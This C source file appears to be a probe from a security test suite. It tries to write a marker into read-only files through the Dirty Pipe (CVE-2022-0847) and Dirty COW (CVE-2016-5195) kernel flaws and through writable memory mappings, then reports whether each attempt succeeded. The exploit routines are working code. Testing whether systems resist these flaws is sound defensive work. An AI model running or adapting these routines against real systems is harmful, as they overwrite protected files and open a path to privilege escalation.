// Writing what may only be read, through the page cache.
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static void tell(const char *path, const char *step, long answer) {
    printf("%s %s\t%s\n", step, path, answer < 0 ? strerrorname_np(errno) : "done");
}

/// CVE-2022-0847: a pipe whose slots once held mergeable pages takes a page of the file, and a write into the pipe then
/// lands in the page.
static void splice_and_write(const char *path) {
    static char block[4096];
    int ends[2], file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0 || pipe(ends) != 0) {
        tell(path, "open", -1);
        return;
    }
    int slots = fcntl(ends[1], F_GETPIPE_SZ) / (int)sizeof block;
    for (int i = 0; i < slots && write(ends[1], block, sizeof block) > 0; i++) {
    }
    for (int i = 0; i < slots && read(ends[0], block, sizeof block) > 0; i++) {
    }
    off64_t offset = 0;
    tell(path, "splice", splice(file, &offset, ends[1], NULL, 1, 0));
    tell(path, "write behind", write(ends[1], "DIRTY", 5));
}

static char *volatile copy;
static volatile int over;

static void *drop_always(void *nothing) {
    while (!over) {
        madvise(copy, 1, MADV_DONTNEED);
    }
    return nothing;
}

/// CVE-2016-5195: a write to a private page, by way of /proc, while the page is dropped and read again.
static void drop_and_write(const char *path) {
    int file = open(path, O_RDONLY | O_CLOEXEC), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    copy = mmap(NULL, 1, PROT_READ, MAP_PRIVATE, file, 0);
    if (copy == MAP_FAILED || memory < 0) {
        tell(path, "race", -1);
        return;
    }
    pthread_t other;
    over = 0;
    pthread_create(&other, NULL, drop_always, NULL);
    long written = 0;
    for (int i = 0; i < 20000; i++) {
        written += pwrite(memory, "DIRTY", 5, (off_t)(uintptr_t)copy) == 5;
    }
    over = 1;
    pthread_join(other, NULL);
    errno = EIO;
    tell(path, "race", written > 0 ? 0 : -1);
}

/// Shared pages can't be made writable.
static void map_and_write(const char *path) {
    int file = open(path, O_RDONLY | O_CLOEXEC);
    char *shared = mmap(NULL, 1, PROT_READ, MAP_SHARED, file, 0);
    tell(path, "mprotect", shared == MAP_FAILED ? -1 : mprotect(shared, 1, PROT_READ | PROT_WRITE));
    tell(path, "map writable", mmap(NULL, 1, PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
}

/// `dirty PATH…`
int dirty(int count, char **paths) {
    for (int i = 0; i < count; i++) {
        splice_and_write(paths[i]);
        drop_and_write(paths[i]);
        map_and_write(paths[i]);
    }
    return 0;
}
